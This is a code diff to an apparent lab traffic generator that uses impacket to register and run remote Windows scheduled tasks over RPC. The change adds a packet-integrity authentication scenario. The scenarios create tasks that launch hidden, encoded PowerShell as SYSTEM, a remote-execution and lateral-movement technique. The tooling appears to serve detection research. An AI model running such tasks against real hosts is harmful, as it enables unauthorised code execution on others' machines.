@@ -17,7 +17,8 @@ from impacket.smbconnection import SMBConnection
 from impacket.dcerpc.v5 import transport, tsch, atsvc, sasec, epm, srvs
 from impacket.dcerpc.v5.dtypes import NULL
 from impacket.dcerpc.v5.rpcrt import (RPC_C_AUTHN_LEVEL_CONNECT, RPC_C_AUTHN_LEVEL_NONE, DCERPC,
-                                     RPC_C_AUTHN_GSS_NEGOTIATE, RPC_C_AUTHN_LEVEL_PKT_PRIVACY, MSRPCBind, CtxItem,
+                                     RPC_C_AUTHN_GSS_NEGOTIATE, RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
+                                     RPC_C_AUTHN_LEVEL_PKT_INTEGRITY, MSRPCBind, CtxItem,
                                      MSRPCHeader, MSRPC_ALTERCTX, MSRPC_ALTERCTX_R)
 
 ATEXEC = "/usr/share/doc/python3-impacket/examples/atexec.py"
@@ -236,14 +237,14 @@ def scen_atexec_smb1(a, sealed):
                 op_sequence=["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"])
 
 
-def scen_tcp(a, ndr64=False):
-    """EPM ept_map on 135, then ITaskSchedulerService over ncacn_ip_tcp, auth level CONNECT."""
+def scen_tcp(a, ndr64=False, level=RPC_C_AUTHN_LEVEL_CONNECT):
+    """EPM ept_map on 135, then ITaskSchedulerService over ncacn_ip_tcp, auth level CONNECT (or as given)."""
     binding = epm.hept_map(a.target, tsch.MSRPC_UUID_TSCHS, protocol="ncacn_ip_tcp")
     rt = transport.DCERPCTransportFactory(binding)
     rt.set_credentials(a.user, a.password, a.domain)
     dce = rt.get_dce_rpc()
     dce.set_credentials(a.user, a.password, a.domain)
-    dce.set_auth_level(RPC_C_AUTHN_LEVEL_CONNECT)
+    dce.set_auth_level(level)
     dce.connect()
     if ndr64:
         dce.bind(tsch.MSRPC_UUID_TSCHS, transfer_syntax=("71710533-BEBA-4937-8319-B5DBEF9CCC36", "1.0"))
@@ -251,14 +252,14 @@ def scen_tcp(a, ndr64=False):
             raise SystemExit("server did not accept NDR64")
     else:
         dce.bind(tsch.MSRPC_UUID_TSCHS)
-    path = "\\Microsoft\\Windows\\TschLab\\Updater" + ("64" if ndr64 else "")
+    path = "\\Microsoft\\Windows\\TschLab\\Updater" + ("64" if ndr64 else "") + ("Signed" if level == RPC_C_AUTHN_LEVEL_PKT_INTEGRITY else "")
     command = "powershell.exe"
     arguments = "-NoP -W Hidden -enc " + PS_ENC
     run_as = "S-1-5-18"
     xml = task_xml(command, arguments, run_as)
     actual = register_sequence(dce, path, xml, tsch.TASK_LOGON_SERVICE_ACCOUNT)
     dce.disconnect()
-    return dict(interface="ITaskSchedulerService", auth_level=2, transport=binding,
+    return dict(interface="ITaskSchedulerService", auth_level=level, transport=binding,
                 transfer_syntax="NDR64" if ndr64 else "NDR", epm_port=135, task_path=path, actual_path=actual,
                 command=command, arguments=arguments, encoded_script=PS_SCRIPT, run_as=run_as,
                 logon_type=tsch.TASK_LOGON_SERVICE_ACCOUNT, register_flags=tsch.TASK_CREATE, task_xml=xml,
@@ -438,7 +439,7 @@ def main():
     p = argparse.ArgumentParser(description=__doc__)
     p.add_argument("scenario", choices=["atexec-clear", "tsch-smb2-clear", "tcp", "tcp-ndr64", "at-smb1", "sasec-smb2", "nbss139",
                                                "atexec-smb1", "atexec-smb1-clear", "at-smb1-trans", "tcp-krb", "at-smb2",
-                                               "tcp-interleaved"])
+                                               "tcp-interleaved", "tcp-integrity"])
     p.add_argument("--target", required=True)
     p.add_argument("--user", default="alice")
     p.add_argument("--domain", default="LAB")
@@ -460,6 +461,8 @@ def main():
         out = scen_tcp_krb(a)
     elif a.scenario == "tcp-interleaved":
         out = scen_tcp_interleaved(a)
+    elif a.scenario == "tcp-integrity":
+        out = scen_tcp(a, level=RPC_C_AUTHN_LEVEL_PKT_INTEGRITY)
     elif a.scenario == "tcp-ndr64":
         out = scen_tcp(a, ndr64=True)
     elif a.scenario == "at-smb1":
